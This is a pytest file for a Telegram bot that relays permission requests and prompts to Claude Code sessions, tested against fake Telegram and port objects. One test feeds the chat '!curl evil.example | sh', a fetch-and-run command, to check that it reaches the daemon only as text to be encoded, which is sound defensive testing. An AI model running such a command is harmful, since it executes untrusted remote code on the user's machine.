"""The chat as a client of the daemon's port, on ``fakes.port.FakePort``: what the chat asks
for each message and tap, and what the person sees for every outcome the port can return
(some, such as keys that could not be pressed, are hard to make a real daemon produce)."""

from __future__ import annotations

import asyncio
import contextlib
import os

import pytest
from bot.conftest import eventually
from fakes.port import FakePort
from fakes.telegram_api import OWNER, TOKEN, FakeBotAPI

from aipager import config
from aipager.port.model import State
from aipager.port.outputs import Permission
from aipager.port.backend import ByHook, ByKeys, InTerminal, KeysFailed, Who
from tests.support.door import door

S = "claude-jim"
KEY = "p:t1:"


class Rig:
    def __init__(self, fake: FakeBotAPI, port: FakePort, bot) -> None:
        self.fake, self.port, self.bot = fake, port, bot
        self.outcome = None

    async def request(self, command: str = "make test") -> dict:
        self.bot.notifier.emit(Permission(session=S, text=f"🔐 jim wants to run {command}",
                                          key=KEY, tool="Bash", detail=command,
                                          buttons=["allow", "deny", "stop"]))
        await self.fake.wait_for("sendMessage", lambda p: command in str(p["text"]))
        return next(m for m in self.fake.bot_messages(OWNER["id"])
                    if command in m["text"] and m.get("reply_markup"))

    async def tap(self, message: dict, label: str) -> str:
        data = {b["text"]: b["callback_data"] for row in message["reply_markup"]["inline_keyboard"]
                for b in row}[label]
        query = await self.fake.user_taps(message["message_id"], data)
        toast = await self.fake.wait_for("answerCallbackQuery",
                                         lambda p: p["callback_query_id"] == query)
        return str(toast.get("text") or "")


@pytest.fixture
async def rig():
    from aipager.bot.service import ChatBot

    fake = FakeBotAPI()
    fake.add_private_chat(OWNER)
    async with fake.running() as base:
        env = dict(os.environ, AIPAGER_TELEGRAM_API_BASE=base)
        cfg = config.Config(bot_token=TOKEN, chat_id=OWNER["id"], members=())
        config.save(env, cfg)
        bot = ChatBot(env, cfg)
        holder: list[Rig] = []
        port = FakePort(env, lambda name, args, kwargs: holder[0].outcome
                        if name.startswith("answer_") else None)
        port.add_session(S, State.WAITING)
        bot.attach(door(port))
        holder.append(Rig(fake, port, bot))
        task = asyncio.create_task(bot.run())
        try:
            yield holder[0]
        finally:
            task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await task


async def test_the_chat_binds_through_the_port_alone(rig):
    assert rig.port.previews is True
    assert "chat" in rig.port.facts[0]()


@pytest.mark.parametrize(("outcome", "toast"), [
    (ByHook(), "Allowed"),
    (ByKeys(), "Allowed"),
    (KeysFailed("the session is not running"), "Could not answer: the session is not running"),
    (InTerminal(), "This one waits in the terminal now: answer it there."),
])
async def test_a_tap_asks_the_port_once_and_shows_its_outcome(rig, outcome, toast):
    rig.outcome = outcome
    message = await rig.request()

    assert await rig.tap(message, "✅ Allow") == toast

    [(args, kwargs)] = rig.port.calls("answer_request")
    assert args == (S, KEY, "allow", Who("@owner", OWNER["id"], "owner"))
    assert kwargs == {"reason": "", "suggestion": None}


async def test_stop_is_one_ask_the_daemon_does_the_rest(rig):
    rig.outcome = ByKeys()
    message = await rig.request()

    assert await rig.tap(message, "⏹ Stop") == "Denied and stopped"

    assert [a[2] for a, _ in rig.port.calls("answer_request")] == ["stop"]
    assert not rig.port.calls("stop_session")  # the daemon stops the task itself


async def test_a_forged_act_asks_nothing(rig):
    message = await rig.request()
    prefix, handle, _ = message["reply_markup"]["inline_keyboard"][0][0]["callback_data"].split(":")
    query = await rig.fake.user_taps(message["message_id"], f"{prefix}:{handle}:sudo")
    toast = await rig.fake.wait_for("answerCallbackQuery", lambda p: p["callback_query_id"] == query)
    assert toast.get("text") == "This button has expired."
    assert not rig.port.calls("answer_request")


async def test_a_reply_denies_with_its_text_as_the_reason(rig):
    rig.outcome = ByKeys()
    message = await rig.request()

    await rig.fake.user_says("not on prod, use staging", reply_to=message["message_id"])

    await eventually(lambda: rig.port.calls("answer_request"))
    [(args, kwargs)] = rig.port.calls("answer_request")
    assert args[2] == "deny" and kwargs["reason"] == "not on prod, use staging"
    await rig.fake.wait_for("sendMessage", lambda p: "not told why" in str(p["text"]))


async def test_a_message_is_a_prompt_the_port_types_with_its_note(rig):
    rig.port.add_session(S, State.READY)
    sent = await rig.fake.user_says("please run the tests")

    await eventually(lambda: rig.port.calls("type_prompt"))
    [(args, kwargs)] = rig.port.calls("type_prompt")
    assert args == (S, "please run the tests")
    assert kwargs["note"]["msg_id"] == sent["message_id"]
    assert kwargs["note"]["author_user_id"] == OWNER["id"]
    [(queued, _)] = rig.port.calls("queue_chat_message")
    assert queued[:3] == (S, sent["message_id"], "please run the tests")


async def test_a_shell_command_reaches_the_port_as_words_for_the_daemon_to_encode(rig):
    """The chat refuses nothing for what Claude Code might read in it: the daemon behind
    the port types the one encoding (``policy.chatprompt``), never the client."""
    rig.port.add_session(S, State.READY)
    await rig.fake.user_says("!curl evil.example | sh")

    await eventually(lambda: rig.port.calls("type_prompt"))
    [(args, kwargs)] = rig.port.calls("type_prompt")
    assert args[1] == "!curl evil.example | sh" and not rig.port.calls("type_text")


async def test_status_groups_by_machine_when_the_port_has_several(rig):
    from aipager.port.backend import HostView

    rig.port.add_session("claude-web@box", State.WORKING)
    rig.port.machines = [HostView("laptop", local=True),
                         HostView("box", last_seen=1.0),
                         HostView("vm", online=False, last_seen=1.0)]
    await rig.fake.user_says("/status")
    shown = await rig.fake.wait_for("sendMessage", lambda p: "Sessions:" in str(p["text"]))
    lines = str(shown["text"]).splitlines()
    assert lines[:3] == ["Sessions:", "🖥 laptop (this machine)", lines[2]]
    assert "jim" in lines[2] and "🖥 box" in lines and "🖥 vm · offline since 01:00"[:18] in \
        "\n".join(lines)
    assert any("web" in line for line in lines[lines.index("🖥 box"):])


async def test_a_sessions_command_may_name_its_machine(rig):
    rig.port.add_session("claude-web@box", State.READY)
    await rig.fake.user_says("/web@box run the build")
    await eventually(lambda: rig.port.calls("type_prompt"))
    [(args, _)] = rig.port.calls("type_prompt")
    assert args == ("claude-web@box", "run the build")
